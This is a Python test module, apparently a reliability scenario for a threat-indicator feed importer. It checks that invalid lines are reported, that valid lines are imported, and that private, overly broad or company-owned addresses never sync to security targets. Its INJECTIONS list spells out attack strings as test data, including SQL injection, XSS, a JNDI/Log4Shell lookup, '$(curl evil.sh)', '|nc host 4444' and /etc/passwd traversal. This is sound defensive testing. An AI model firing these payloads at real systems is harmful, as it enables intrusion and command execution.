"""Reliability scenario (3): a large feed with 1% hostile lines.

The garbage is of two sorts. Invalid lines — random binary, overlong lines, broken UTF-8,
injection strings — must each be reported (the errors file must name exactly their line
numbers) while every other line is imported. Valid-but-guarded lines — absurd CIDRs such as
0.0.0.0/1, private and special addresses, the company's own assets from the guard's allowlists —
are imported but must never reach a target: after syncing to Vision One and to Deep Security the
emulator must hold none of them, and no IP-list item may overlap a guarded network.
"""

import hashlib
import ipaddress
import re

from .procs import log
from .verdict import Verdict
from .workspace import DS_WORKFLOW, V1_WORKFLOW, Workspace

OWN_NET = "81.2.69.0/24"
OWN_DOMAIN = "corp-own.net"
GUARD = f'allow_cidrs = ["{OWN_NET}"]\nallow_domains = ["{OWN_DOMAIN}"]'
INJECTIONS = [
    "'; DROP TABLE indicators;-- {i}", "<script>alert({i})</script>", "{{{{7*{i}}}}}", "$(curl evil{i}.sh)",
    "${{jndi:ldap://x{i}.net/a}}", "../../../../etc/passwd{i}", "%n%n%s{i}", "\" OR 1=1 -- {i}", "`id`{i}",
    "a{i}.net;rm", "|nc x{i}.net 4444", "%0d%0aSet-Cookie:{i}", "javascript:alert({i})",
    "file:///etc/passwd{i}", "1.2.3.4{i}/99", "x{i}@@y.net", "0x7f.0.0.{i}",
]
GUARDED_NETS = ["0.0.0.0/1", "128.0.0.0/1", "0.0.0.0/0", "::/0", "2000::/3"]
# The special-purpose and own ranges the guarded addresses come from: no exported item may overlap one.
SPECIAL_NETS = ["10.0.0.0/8", "192.168.0.0/16", "127.0.0.0/8", "169.254.0.0/16", "100.64.0.0/10", OWN_NET]
# An absurdly broad CIDR must not be exported, though addresses inside it may be.
BROADEST_PREFIX = {4: 8, 6: 16}


def good_line(i):
    kind = i % 5
    if kind == 0:
        return str(ipaddress.IPv4Address(0x2D000000 + i))  # 45.0.0.0 upwards: public
    if kind == 1:
        return f"g{i}.feed-good.net"
    if kind == 2:
        return f"hxxp://g{i}[.]feed-good[.]net/p"
    if kind == 3:
        return hashlib.sha256(f"good{i}".encode()).hexdigest()
    return f"u{i}@feed-good.net"


def invalid_line(rng, i):
    kind = i % 4
    if kind == 0:  # binary: always a NUL and a 0xff byte, never a newline or a leading '#'
        junk = bytes(rng.choice([b for b in range(256) if b not in (10, 13, 35)]) for _ in range(rng.randint(5, 60)))
        return b"\x00" + junk + b"\xff"
    if kind == 1:
        return b"a" * rng.randint(9_000, 20_000) + f"{i}.com".encode()
    if kind == 2:
        return f"bad{i}.".encode() + b"\xc3\x28" + b"example.net"
    return INJECTIONS[(i // 4) % len(INJECTIONS)].format(i=i).encode()


def guarded_line(i):
    kind = i % 8
    return [
        GUARDED_NETS[(i // 8) % len(GUARDED_NETS)],
        f"10.{i % 256}.{(i // 256) % 256}.7",
        f"192.168.{i % 256}.9",
        f"127.0.{i % 256}.1",
        f"169.254.{i % 256}.3",
        f"100.64.{i % 256}.5",
        f"81.2.69.{i % 256}",
        f"h{i}.{OWN_DOMAIN}" if i % 16 < 8 else f"http://wiki{i}.{OWN_DOMAIN}/a",
    ][kind]


def write_feed(path, lines, rng):
    """Returns (invalid line numbers, guarded values, good count); 1% of lines are garbage."""
    garbage = set(rng.sample(range(1, lines + 1), lines // 100))
    invalid, guarded, good = set(), set(), 0
    with open(path, "wb") as out:
        for number in range(1, lines + 1):
            if number in garbage and number % 2:
                out.write(invalid_line(rng, number) + b"\n")
                invalid.add(number)
            elif number in garbage:
                value = guarded_line(number)
                guarded.add(value)
                out.write(value.encode() + b"\n")
            else:
                out.write(good_line(number).encode() + b"\n")
                good += 1
    return invalid, guarded, good


def reported_lines(errors_file):
    numbers = set()
    with open(errors_file, encoding="utf-8", errors="replace") as errors:
        for line in errors:
            match = re.match(r"^.*?:(\d+): ", line)
            if match:
                numbers.add(int(match.group(1)))
    return numbers


def leaks(emu, guarded):
    """Guarded values found on the emulator: on the V1 list, or as or inside an IP-list item."""
    found = [value for _, value in emu.v1_objects() if value in guarded or OWN_DOMAIN in value]
    special = [ipaddress.ip_network(n) for n in SPECIAL_NETS]
    for items in emu.ip_lists().values():
        for item in items:
            net = ipaddress.ip_network(item.split("#")[0].strip(), strict=False)
            too_broad = net.prefixlen < BROADEST_PREFIX[net.version]
            if too_broad or any(net.version == other.version and net.overlaps(other) for other in special):
                found.append(item)
    return found


def run(binary, work, emu, key, lines, rng):
    emu.reset()
    workspace = Workspace(binary, work / "hostile", emu, key, guard=GUARD, verbose=True)
    path = work / "hostile.txt"
    invalid, guarded, good = write_feed(path, lines, rng)
    errors_file = work / "hostile" / "errors.txt"
    log(f"hostile: {lines:,} lines, {len(invalid):,} invalid, {lines - good - len(invalid):,} guarded")
    _, summary = workspace.import_files(path, extra_args=("--errors-file", str(errors_file)))
    reported = reported_lines(errors_file)
    workspace.sync(V1_WORKFLOW)
    workspace.sync(DS_WORKFLOW)
    leaked = leaks(emu, guarded)
    expected_imported = lines - len(invalid)
    problems = []
    if summary["invalid"] != len(invalid) or reported != invalid:
        problems.append(f"{summary['invalid']} reported invalid and {len(reported)} line numbers in the errors "
                        f"file, expected {len(invalid)} ({len(invalid - reported)} bad lines not reported, "
                        f"{len(reported - invalid)} good lines reported)")
    if summary["imported"] != expected_imported:
        problems.append(f"{summary['imported']} imported, expected {expected_imported}")
    if leaked:
        problems.append(f"{len(leaked)} guarded values exported, e.g. {leaked[:3]}")
    details = "; ".join(problems) or (
        f"{lines:,} lines: all {expected_imported:,} good or guarded lines imported, all {len(invalid):,} bad lines "
        f"reported with their line numbers, none of {len(guarded):,} distinct guarded values "
        f"(absurd CIDRs, special ranges, own assets) on Vision One or in an IP list")
    return Verdict("hostile input", not problems, details)
